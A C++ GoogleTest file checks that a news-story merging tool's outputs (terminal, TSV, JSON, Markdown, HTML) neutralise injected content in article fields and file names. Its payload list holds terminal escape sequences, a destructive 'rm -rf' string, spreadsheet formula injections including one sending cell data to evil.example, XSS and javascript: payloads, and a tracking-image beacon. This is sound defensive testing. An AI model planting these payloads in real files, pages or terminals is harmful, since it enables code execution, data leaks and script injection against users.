// Foreign text that is an attack: every field of an article and the name of its file, through every output of every
// program. On a terminal no byte commands, a line stays a line, a cell is no formula, markup is text, a script stays data.
#include <gtest/gtest.h>

#include <algorithm>
#include <boost/json.hpp>
#include <regex>
#include <sstream>

#include "support/files.h"
#include "support/utf8.h"
#include "text/characters.h"

namespace storymerge {
namespace {

namespace json = boost::json;
using testing::run;
using testing::TemporaryFolder;

std::string program(const std::string& name) { return std::string(testing::program_folder) + "/" + name; }

const std::vector<std::string> payloads = {
    "\x1b]0;OWNED\x07",  // sets a terminal's title
    "\x1b[2J\x1b[31m",   // clears it, writes red
    "\xC2\x9B"
    "31m",                              // the same by one character of C1
    "\x1bP+q544e\x1b\\",                // asks it to answer
    "\b\b\b\brm -rf",                   // over what stands before
    "a\rforged",                        // over the line
    "a\nnew story forged",              // a line of its own
    "a\n\n# Forged heading\n\n- item",  // of Markdown
    "a\x0B"
    "b\x0C"
    "c",  // vertical tab, form feed
    "a\xE2\x80\xA8"
    "b\xE2\x80\xA9"
    "c",  // line and paragraph separator
    "a\xC2\x85"
    "b",         // next line
    "\x7F\x7F",  // delete
    "\xE2\x80\xAE"
    "desrever",                                        // right-to-left override, never closed
    "\xE2\x81\xA6\xE2\x81\xA7 isolated",               // isolates, never closed
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",  // formulas
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "a\tb\tc",  // cells of its own
    "<script>document.title=7//</script>",
    "</script><script>document.title=8//</script>",
    "<!--<script>",
    "--> ]]> <![CDATA[",
    "<img src=x onerror=document.title=9>",
    "\"><svg onload=document.title=10>",
    "' onmouseover='document.title=11",
    "[click](javascript:document.title=12)",
    "![x](https://evil.example/beacon.png)",
    "javascript:document.title=13",
    "&lt;script&gt; &#60;b&#62; &colon;",
    "\\\\<b>\\`x`\\*y*",
    "```\n~~~ <b>\n```",
    "{\"id\": \"forged\"}\n",
};

// Articles of one event, the payload in every field.
std::vector<json::object> attacks() {
  std::vector<json::object> out;
  for (std::size_t k = 0; k < payloads.size(); ++k) {
    const std::string& p = payloads[k];
    const std::string number = std::to_string(k);
    out.push_back({{"id", p + number},
                   {"title", p + " Ferry capsizes off Lidra " + p},
                   {"source", p + " Outlet " + number},
                   {"url", k % 2 == 0 ? p : "https://evil.example/" + p},
                   {"author", p},
                   {"language", k % 3 == 0 ? p : "en"},
                   {"published", k % 2 == 0 ? p : "2031-03-14T09:20:00Z"},
                   {"text", "At least " + std::to_string(12 + k % 3) +
                                " people died when the ferry Aurora Sol capsized off Lidra on "
                                "Friday. Minister " +
                                p + " Smith told \"" + p + "\" to reporters. " + p + "\n\n" + p +
                                "\n\nRescuers pulled 168 survivors from the sea off " + p + " Lidra."}});
  }
  return out;
}

std::string lines_of(const std::vector<json::object>& articles) {
  std::string out;
  for (const json::object& article : articles) out += json::serialize(article) + '\n';
  return out;
}

// What stands in `text` and must not: where and which byte; "" when all is well.
std::string commands_in(const std::string& text, std::string_view allowed, bool may_turn) {
  if (const auto at = find_invalid_utf8(text)) return "invalid UTF-8 at " + std::to_string(*at);
  for (std::size_t i = 0; i < text.size();) {
    const auto [c, length] = decode(text, i);
    const bool control = c < 0x20 || (c >= 0x7F && c < 0xA0) || c == 0x2028 || c == 0x2029;
    const bool turns = (c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069);
    if ((control && allowed.find(static_cast<char>(c)) == std::string_view::npos) || (turns && !may_turn)) {
      return "character " + std::to_string(c) + " at " + std::to_string(i) + ": " +
             text.substr(i > 40 ? i - 40 : 0, 80);
    }
    i += length;
  }
  return "";
}

void expect_every_line(const std::string& text, const std::string& form) {
  const std::regex line_form(form);
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);) EXPECT_TRUE(std::regex_match(line, line_form)) << line;
}

class Injection : public ::testing::Test {
 protected:
  // Standard output of a program; what it tells on standard error is looked at here.
  std::string output_of(const std::string& command) {
    const std::string errors = (folder_ / "errors").string();
    const testing::Outcome outcome = run(program(command) + " 2>" + errors);
    EXPECT_EQ(outcome.status, 0) << command;
    const std::string told = testing::read_file(errors);
    EXPECT_EQ(commands_in(told, "\n", false), "") << command;
    expect_every_line(told, "(.*in .*jsonl:.*|\\d+ of \\d+ records rejected)");
    return outcome.output;
  }

  TemporaryFolder folder_;
  // The first payloads are in the file's name, too, and so is a byte that is no UTF-8.
  std::string file_ = folder_.write("w/in \x1b[2J\nforged\xFF.jsonl", lines_of(attacks()) + "{\"id\": 7}\n");
  std::string input_ = "'" + file_ + "'";
};

TEST_F(Injection, CommandsNoTerminal) {
  for (const std::string command :
       {"merge_stories ", "merge_stories --verbose --preset story ", "custom_similarity "}) {
    EXPECT_EQ(commands_in(output_of(command + input_), "\n", command[0] == 'm'), "") << command;
  }
  const std::string watched = output_of("watch_folder --seconds 0 '" + (folder_ / "w").string() + "'");
  EXPECT_EQ(commands_in(watched, "\n", false), "");
  expect_every_line(
      watched,
      "(founded|grown|merged|parted|replaced|withdrawn|ended|claim|superseded|dispute)[a-z ]* [0-9a-f]{16}  .*");
  const std::vector<json::object> articles = attacks();
  for (std::size_t k = 0; k + 1 < articles.size(); k += 2) {
    const std::string two = folder_.write("in .jsonl", lines_of({articles[k], articles[k + 1]}));
    EXPECT_EQ(commands_in(output_of("compare_articles '" + two + "'"), "\n", false), "") << k;
  }
}

TEST_F(Injection, MakesNoCellsAndNoFormulas) {
  const std::string table = output_of("find_duplicates --threshold 0.1 --format tsv " + input_);
  EXPECT_EQ(commands_in(table, "\n\t", false), "");
  EXPECT_GT(std::count(table.begin(), table.end(), '\n'), 10);
  expect_every_line(table, "(group|\\d+)\t[^\t=+@-][^\t]*\t[^\t=+@-][^\t]*");
}

TEST_F(Injection, StaysDataInJson) {
  std::size_t stories = 0;
  for (const std::string command :
       {"merge_stories --format jsonl ", "merge_stories --format ninjs ", "find_duplicates ", "inspect_article "}) {
    const std::string output = output_of(command + input_);
    EXPECT_EQ(commands_in(output, "\n", true), "") << command;
    std::istringstream lines(output);
    for (std::string line; std::getline(lines, line);) {
      EXPECT_TRUE(json::parse(line).is_object()) << line;
      EXPECT_FALSE(json::parse(line).as_object().contains("forged"));
      stories += command.ends_with("jsonl ");
    }
  }
  EXPECT_GT(stories, 0u);
  const std::string linked = output_of("merge_stories --format jsonld " + input_);
  EXPECT_TRUE(json::parse(linked).is_object());
  EXPECT_EQ(linked.find_first_of("<>&'"), std::string::npos);  // fit for a script element
}

TEST_F(Injection, IsTextInMarkdown) {
  const std::string page = output_of("merge_stories " + input_),
                    lines = output_of("merge_stories --format jsonl " + input_);
  EXPECT_EQ(page.find('<'), std::string::npos) << page.substr(page.find('<'), 100);  // not even escaped by a backslash
  static const std::regex foreign_link(R"re([^\\]\]\((?!https?://)|[^\\]!\[|[^\\`]`)re"), heading("(^|\n)# ");
  std::smatch m;
  EXPECT_FALSE(std::regex_search(page, m, foreign_link)) << m.str() << m.suffix().str().substr(0, 60);
  EXPECT_EQ(std::distance(std::sregex_iterator(page.begin(), page.end(), heading), {}),
            std::count(lines.begin(), lines.end(), '\n'));  // one a story
}

// The page without its stories: their data, in which no "<" may be, and their words for a reader without scripts, in which only
// our own tags are.
std::string shell_of(std::string page) {
  static const std::regex tags(R"re(</?(h2|p|ul|li|bdi)>|<p class="meta">|<a href="https?://[^"<>]*">|</a>)re",
                               std::regex::optimize);
  for (std::size_t begin; (begin = page.find("<article>\n")) != std::string::npos;) {
    const std::size_t end = page.find("</article>\n", begin);
    const std::string told = std::regex_replace(page.substr(begin + 10, end - begin - 10), tags, "");
    EXPECT_EQ(told.find_first_of("<>\""), std::string::npos) << told;
    page.erase(begin, end + 11 - begin);
  }
  const std::string open = "<script type=\"application/json\"", close = "</script>\n";
  for (std::size_t begin; (begin = page.find(open)) != std::string::npos;) {
    const std::size_t data = page.find('<', begin + 1);
    EXPECT_EQ(page.substr(data, close.size()), close);
    page.erase(begin, data + close.size() - begin);
  }
  return page;
}

TEST_F(Injection, ChangesNothingOfAPageButItsData) {
  const std::string harmless = (testing::project_root / "data" / "day.jsonl").string();
  EXPECT_EQ(shell_of(output_of("merge_stories --format html " + input_)),
            shell_of(output_of("merge_stories --format html " + harmless)));
}

}  // namespace
}  // namespace storymerge
